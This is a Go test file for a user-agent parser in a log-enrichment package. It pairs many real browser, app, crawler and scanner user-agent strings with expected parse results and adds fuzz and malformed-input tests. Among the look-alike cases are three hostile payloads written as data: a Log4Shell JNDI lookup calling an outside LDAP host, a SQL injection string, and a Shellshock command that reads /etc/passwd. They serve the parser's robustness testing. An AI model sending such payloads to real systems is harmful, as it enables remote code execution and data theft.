package enrich

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

const (
	chromeWin  = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
	safariPhon = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"
)

// agentCases are user agents as seen in logs: text, then name, version, os, os version,
// device, bot, class.
var agentCases = []struct {
	ua   string
	want agent
}{
	// Windows.
	{chromeWin, agent{"Chrome", "131.0.0.0", "Windows", "10", "", "", ""}},
	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.2903.51", agent{"Edge", "131.0.2903.51", "Windows", "10", "", "", ""}},
	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.140 Safari/537.36 Edge/18.17763", agent{"Edge", "18.17763", "Windows", "10", "", "", ""}},
	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0", agent{"Firefox", "132.0", "Windows", "10", "", "", ""}},
	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36 OPR/115.0.0.0", agent{"Opera", "115.0.0.0", "Windows", "10", "", "", ""}},
	{"Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.6613.186 Safari/537.36 Vivaldi/6.9.3447.54", agent{"Vivaldi", "6.9.3447.54", "Windows", "10", "", "", ""}},
	{"Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", agent{"Internet Explorer", "11.0", "Windows", "7", "", "", ""}},
	{"Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; WOW64; Trident/6.0)", agent{"Internet Explorer", "10.0", "Windows", "7", "", "", ""}},
	{"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)", agent{"Internet Explorer", "6.0", "Windows", "XP", "", "", ""}},
	{"Mozilla/5.0 (Windows NT 6.3; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36", agent{"Chrome", "109.0.0.0", "Windows", "8.1", "", "", ""}},
	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Whale/3.28.266.14 Chrome/128.0.0.0 Safari/537.36", agent{"Whale", "3.28.266.14", "Windows", "10", "", "", ""}},
	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 YaBrowser/24.10.0.0 Safari/537.36", agent{"Yandex Browser", "24.10.0.0", "Windows", "10", "", "", ""}},
	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.41.97 Chrome/130.0.6723.59 Electron/33.0.1 Safari/537.36", agent{"Slack", "4.41.97", "Windows", "10", "", "", ""}},
	{"Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18", agent{"Opera", "12.18", "Windows", "7", "", "", ""}},
	{"Mozilla/5.0 (Windows Phone 10.0; Android 6.0.1; Microsoft; Lumia 950) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Mobile Safari/537.36 Edge/15.15063", agent{"Edge", "15.15063", "Windows Phone", "10.0", "", "", ""}},
	// Macintosh.
	{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", agent{"Chrome", "130.0.0.0", "macOS", "10.15.7", "Mac", "", ""}},
	{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15", agent{"Safari", "18.1", "macOS", "10.15.7", "Mac", "", ""}},
	{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:78.0) Gecko/20100101 Firefox/78.0", agent{"Firefox", "78.0", "macOS", "10.15", "Mac", "", ""}},
	{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0", agent{"Edge", "130.0.0.0", "macOS", "10.15.7", "Mac", "", ""}},
	// ChromeOS, Linux.
	{"Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", agent{"Chrome", "130.0.0.0", "ChromeOS", "14541.0.0", "", "", ""}},
	{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", agent{"Chrome", "130.0.0.0", "Linux", "", "", "", ""}},
	{"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0", agent{"Firefox", "132.0", "Ubuntu", "", "", "", ""}},
	{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Ubuntu Chromium/80.0.3987.87 Chrome/80.0.3987.87 Safari/537.36", agent{"Chromium", "80.0.3987.87", "Linux", "", "", "", ""}},
	{"w3m/0.5.3+git20230121", agent{"w3m", "0.5.3+git20230121", "", "", "", "", ""}},
	// iPhone and iPad.
	{safariPhon, agent{"Safari", "17.5", "iOS", "17.5.1", "iPhone", "", ""}},
	{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/130.0.6723.90 Mobile/15E148 Safari/604.1", agent{"Chrome", "130.0.6723.90", "iOS", "17.7", "iPhone", "", ""}},
	{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/132.0 Mobile/15E148 Safari/605.1.15", agent{"Firefox", "132.0", "iOS", "17.6", "iPhone", "", ""}},
	{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 EdgiOS/130.0.2849.80 Mobile/15E148 Safari/605.1.15", agent{"Edge", "130.0.2849.80", "iOS", "17.7", "iPhone", "", ""}},
	{"Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1", agent{"Safari", "16.6", "iOS", "16.6", "iPad", "", ""}},
	{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148", agent{"Safari WebView", "", "iOS", "17.5", "iPhone", "", ""}},
	{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari Line/14.9.1", agent{"LINE", "14.9.1", "iOS", "17.5.1", "iPhone", "", ""}},
	{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 YJApp-IOS jp.co.yahoo.ipn.appli/4.124.0", agent{"Yahoo! Japan", "", "iOS", "17.5.1", "iPhone", "", ""}},
	{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21F90 [FBAN/FBIOS;FBAV/471.1.0.37.96;FBBV/621063486;FBDV/iPhone14,5]", agent{"Facebook", "471.1.0.37.96", "iOS", "17.5.1", "iPhone", "", ""}},
	{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 331.0.0.25.90 (iPhone13,2; iOS 17_4_1; ja_JP; ja; scale=3.00; 1170x2532; 596227443)", agent{"Instagram", "331.0.0.25.90", "iOS", "17.4.1", "iPhone", "", ""}},
	{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/342.0.693598186 Mobile/15E148 Safari/604.1", agent{"Google app", "342.0.693598186", "iOS", "17.5.1", "iPhone", "", ""}},
	{"ShopApp/5.12.0 CFNetwork/1496.0.7 Darwin/23.5.0", agent{"ShopApp", "5.12.0", "Darwin", "23.5.0", "", "", ""}},
	// Android.
	{"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36", agent{"Chrome", "130.0.0.0", "Android", "10", "", "", ""}},
	{"Mozilla/5.0 (Linux; Android 13; SM-G991B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.0.0 Mobile Safari/537.36", agent{"Chrome", "112.0.0.0", "Android", "13", "SM-G991B", "", ""}},
	{"Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP2A.240805.005; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/127.0.6533.103 Mobile Safari/537.36", agent{"Chrome WebView", "127.0.6533.103", "Android", "14", "Pixel 8", "", ""}},
	{"Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-A536E) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36", agent{"Samsung Internet", "23.0", "Android", "13", "SAMSUNG SM-A536E", "", ""}},
	{"Mozilla/5.0 (Android 14; Mobile; rv:132.0) Gecko/132.0 Firefox/132.0", agent{"Firefox", "132.0", "Android", "14", "", "", ""}},
	{"Mozilla/5.0 (Linux; Android 9; SOV38 Build/52.0.C.1.119; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.144 Mobile Safari/537.36 Line/13.20.0/IAB", agent{"LINE", "13.20.0", "Android", "9", "SOV38", "", ""}},
	{"Mozilla/5.0 (Linux; U; Android 4.4.2; ja-jp; SC-02F Build/KOT49H) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30", agent{"Android Browser", "4.0", "Android", "4.4.2", "SC-02F", "", ""}},
	{"Mozilla/5.0 (Linux; Android 12; M2102J20SG; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.147 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/466.0.0.55.85;]", agent{"Facebook", "466.0.0.55.85", "Android", "12", "M2102J20SG", "", ""}},
	{"Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/108.4.6 like Chrome/108.0.5359.220 Safari/537.36", agent{"Silk", "108.4.6", "Android", "9", "KFMAWI", "", ""}},
	{"Mozilla/5.0 (Linux; Android 10; HarmonyOS; JAD-AL50; HMSCore 6.13.0.302) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.5735.196 HuaweiBrowser/15.0.4.312 Mobile Safari/537.36", agent{"Huawei Browser", "15.0.4.312", "Android", "10", "JAD-AL50", "", ""}},
	{"Dalvik/2.1.0 (Linux; U; Android 13; SM-A536E Build/TP1A.220624.014)", agent{"Dalvik", "2.1.0", "Android", "13", "SM-A536E", "", ""}},
	{"Opera/9.80 (Android; Opera Mini/7.6.40234/191.249; U; en) Presto/2.12.423 Version/12.16", agent{"Opera Mini", "7.6.40234", "Android", "", "", "", ""}},
	// Televisions and consoles.
	{"Mozilla/5.0 (PlayStation; PlayStation 5/9.60) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.0 Safari/605.1.15", agent{"Safari", "13.0", "PlayStation", "", "PlayStation", "", ""}},
	{"Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36", agent{"Chrome", "87.0.4280.88", "webOS", "", "LG TV", "", ""}},
	{"Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/609.4 (KHTML, like Gecko) NF/6.0.2.21.3 NintendoBrowser/5.1.0.22474", agent{"Nintendo Browser", "5.1.0.22474", "Nintendo", "", "Nintendo Switch", "", ""}},
	// Libraries and tools.
	{"curl/8.7.1", agent{"curl", "8.7.1", "", "", "", "curl", "http_library"}},
	{"python-requests/2.32.3", agent{"python-requests", "2.32.3", "", "", "", "python-requests", "http_library"}},
	{"Python/3.11 aiohttp/3.9.5", agent{"aiohttp", "3.9.5", "", "", "", "aiohttp", "http_library"}},
	{"Go-http-client/2.0", agent{"Go-http-client", "2.0", "", "", "", "Go-http-client", "http_library"}},
	{"okhttp/4.12.0", agent{"okhttp", "4.12.0", "", "", "", "okhttp", "http_library"}},
	{"ShopApp/5.3.0 (Linux; Android 14; Pixel 8) okhttp/4.12.0", agent{"ShopApp", "5.3.0", "Android", "14", "Pixel 8", "", ""}},
	{"AWS Internal", agent{"AWS Internal", "", "", "", "", "AWS Internal", "cloud_tool"}},
	{"Wget/1.21.4", agent{"Wget", "1.21.4", "", "", "", "Wget", "archiver"}},
	{"Apache-HttpClient/4.5.13 (Java/11.0.19)", agent{"Apache-HttpClient", "4.5.13", "", "", "", "Apache-HttpClient", "http_library"}},
	{"axios/1.7.7", agent{"axios", "1.7.7", "", "", "", "axios", "http_library"}},
	{"aws-cli/2.15.30 Python/3.11.8 Linux/5.10.16 exe/x86_64.ubuntu.22 prompt/off command/s3.cp", agent{"aws-cli", "2.15.30", "Linux", "5.10.16", "", "aws-cli", "cloud_tool"}},
	{"Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.1.79 md/arch#x86_64 lang/python#3.12.2", agent{"Boto3", "1.34.69", "Linux", "6.1.79", "", "Boto3", "cloud_tool"}},
	{"APN/1.0 HashiCorp/1.0 Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-aws/5.72.1", agent{"Terraform", "1.9.8", "", "", "", "Terraform", "cloud_tool"}},
	{"cloudformation.amazonaws.com", agent{"cloudformation.amazonaws.com", "", "", "", "", "", ""}},
	{"PostmanRuntime/7.42.0", agent{"Postman", "7.42.0", "", "", "", "Postman", "automation"}},
	{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/130.0.0.0 Safari/537.36", agent{"Headless Chrome", "130.0.0.0", "Linux", "", "", "Headless Chrome", "automation"}},
	{"Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.4894", agent{"PowerShell", "5.1.19041.4894", "Windows", "10", "", "PowerShell", "http_library"}},
	// Search engines, crawlers, previews, monitoring.
	{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", agent{"Googlebot", "2.1", "", "", "", "Googlebot", "search_engine"}},
	{"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.91 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", agent{"Googlebot", "2.1", "Android", "6.0.1", "Nexus 5X", "Googlebot", "search_engine"}},
	{"Googlebot-Image/1.0", agent{"Googlebot", "1.0", "", "", "", "Googlebot", "search_engine"}},
	{"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", agent{"Bingbot", "2.0", "", "", "", "Bingbot", "search_engine"}},
	{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", agent{"Bingbot", "2.0", "", "", "", "Bingbot", "search_engine"}},
	{"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", agent{"YandexBot", "3.0", "", "", "", "YandexBot", "search_engine"}},
	{"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", agent{"Baiduspider", "2.0", "", "", "", "Baiduspider", "search_engine"}},
	{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", agent{"Applebot", "0.1", "macOS", "10.15.5", "Mac", "Applebot", "search_engine"}},
	{"Mozilla/5.0 (compatible; Y!J-BRW/1.0; https://www.yahoo-help.jp/app/answers/detail/p/595/a_id/42716)", agent{"Yahoo Japan", "1.0", "", "", "", "Yahoo Japan", "search_engine"}},
	{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", agent{"GPTBot", "1.2", "", "", "", "GPTBot", "ai_crawler"}},
	{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", agent{"ClaudeBot", "1.0", "", "", "", "ClaudeBot", "ai_crawler"}},
	{"Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)", agent{"Bytespider", "", "Android", "5.0", "", "Bytespider", "ai_crawler"}},
	{"CCBot/2.0 (https://commoncrawl.org/faq/)", agent{"CCBot", "2.0", "", "", "", "CCBot", "ai_crawler"}},
	{"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", agent{"AhrefsBot", "7.0", "", "", "", "AhrefsBot", "seo"}},
	{"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", agent{"SemrushBot", "7", "", "", "", "SemrushBot", "seo"}},
	{"ELB-HealthChecker/2.0", agent{"ELB health check", "2.0", "", "", "", "ELB health check", "monitoring"}},
	{"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", agent{"UptimeRobot", "2.0", "", "", "", "UptimeRobot", "monitoring"}},
	{"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", agent{"Facebook", "1.1", "", "", "", "Facebook", "social_preview"}},
	{"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", agent{"Slack", "1.0", "", "", "", "Slack", "social_preview"}},
	{"http.rb/5.2.0 (Mastodon/4.2.10; +https://mastodon.social/)", agent{"Mastodon", "4.2.10", "", "", "", "Mastodon", "social_preview"}},
	{"Feedly/1.0 (+http://www.feedly.com/fetcher.html; like FeedFetcher-Google)", agent{"Feedly", "1.0", "", "", "", "Feedly", "feed"}},
	{"Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)", agent{"Internet Archive", "", "", "", "", "Internet Archive", "archiver"}},
	{"Mozilla/5.0 (compatible; HomebrewFinder/0.3; our-crawler)", agent{"unnamed bot", "", "", "", "", "unnamed bot", "other_bot"}},
	// Attack tools and scanners.
	{"sqlmap/1.8.4#stable (https://sqlmap.org)", agent{"sqlmap", "1.8.4", "", "", "", "sqlmap", "attack_tool"}},
	{"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", agent{"Nikto", "2.1.6", "", "", "", "Nikto", "attack_tool"}},
	{"WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", agent{"WPScan", "3.8.25", "", "", "", "WPScan", "attack_tool"}},
	{"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", agent{"Nmap", "", "", "", "", "Nmap", "scanner"}},
	{"Mozilla/5.0 zgrab/0.x", agent{"zgrab", "0.x", "", "", "", "zgrab", "scanner"}},
	{"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", agent{"Censys", "1.1", "", "", "", "Censys", "scanner"}},
	{"Expanse, a Palo Alto Networks company, searches across the global IPv4 space", agent{"Palo Alto Xpanse", "", "", "", "", "Palo Alto Xpanse", "scanner"}},
	{"Fuzz Faster U Fool v2.1.0-dev", agent{"ffuf", "2.1.0-dev", "", "", "", "ffuf", "attack_tool"}},
	// Look-alikes: a claim is a claim, and a name inside another word is none.
	{"Googlebot", agent{"Googlebot", "", "", "", "", "Googlebot", "search_engine"}},
	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Googlebot/2.1 Chrome/99.0.0.0", agent{"Googlebot", "2.1", "Windows", "10", "", "Googlebot", "search_engine"}},
	{"NotGooglebotty/1.0", agent{"NotGooglebotty", "1.0", "", "", "", "", ""}},
	{"curlew/1.0", agent{"curlew", "1.0", "", "", "", "", ""}},
	{"Mozilla/5.0 (X11; Linux x86_64) javascript-testing", agent{"javascript-testing", "", "Linux", "", "", "", ""}},
	{"${jndi:ldap://203.0.113.9/a}", agent{}},
	{"' OR 1=1 --", agent{"OR", "", "", "", "", "", ""}},
	{"-", agent{}},
	{"Mozilla/5.0", agent{}},
	{"() { :; }; /bin/cat /etc/passwd", agent{}},
	{"Мозилла/5.0", agent{"Мозилла", "5.0", "", "", "", "", ""}},
}

func testTables(t testing.TB, o Options) *Tables {
	t.Helper()
	tables, _, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	return tables
}

func TestAgents(t *testing.T) {
	t.Parallel()
	tables := testTables(t, Options{})
	for _, c := range agentCases {
		if diff := cmp.Diff(c.want, tables.parseAgent(c.ua), cmp.AllowUnexported(agent{})); diff != "" {
			t.Errorf("%s\n%s", c.ua, diff)
		}
	}
}

func TestHostileAgents(t *testing.T) {
	t.Parallel()
	tables := testTables(t, Options{})
	for _, ua := range []string{
		strings.Repeat("A", 1<<20), strings.Repeat("(", 1<<20), strings.Repeat("a/1 ", 1<<18), strings.Repeat("bot", 1<<18),
		strings.Repeat("(;", 1<<19), "Chrome/\x00\x01\x1b[31m", "\xff\xfe/\x80", "Mozilla/5.0 (Linux; Android \x07; \xff)", "Chrome/" + strings.Repeat("9", 5000),
		"[[[[((((", "Googlebot/", "/", "//", "Line/", "[FBAN/", "(Android", "\u202eChrome/1",
	} {
		check(t, tables.parseAgent(ua))
	}
}

// check fails if an agent holds what no column should.
func check(t *testing.T, a agent) {
	t.Helper()
	for _, s := range []string{a.name, a.version, a.os, a.osVersion, a.device, a.bot, a.botClass} {
		if !utf8.ValidString(s) || len(s) > 64 || strings.ContainsFunc(s, func(r rune) bool { return r < 0x20 || r == 0x7f }) {
			t.Errorf("bad value %q in %+v", s, a)
		}
	}
}

func TestBotTable(t *testing.T) {
	t.Parallel()
	tables := testTables(t, Options{})
	if n := len(tables.bots.bots); n < 150 {
		t.Errorf("%d bots, want at least 150", n)
	}
	seen := map[string]bool{}
	for _, b := range tables.bots.bots {
		if seen[b.name] {
			t.Errorf("bot %q stands twice", b.name)
		}
		seen[b.name] = true
	}
	for _, bad := range []string{"x", "nonsense A = abc", "seo A = ab", "seo = abc", "seo A abc"} {
		if _, err := parseBots("# ok\n" + bad + "\n"); err == nil || !strings.Contains(err.Error(), "line 2") {
			t.Errorf("%q: %v", bad, err)
		}
	}
}

func FuzzAgent(f *testing.F) {
	for _, c := range agentCases {
		f.Add(c.ua)
	}
	tables := testTables(f, Options{})
	f.Fuzz(func(t *testing.T, ua string) { check(t, tables.parseAgent(ua)) })
}

func BenchmarkAgent(b *testing.B) {
	tables := testTables(b, Options{})
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		tables.parseAgent(agentCases[i%len(agentCases)].ua)
	}
}
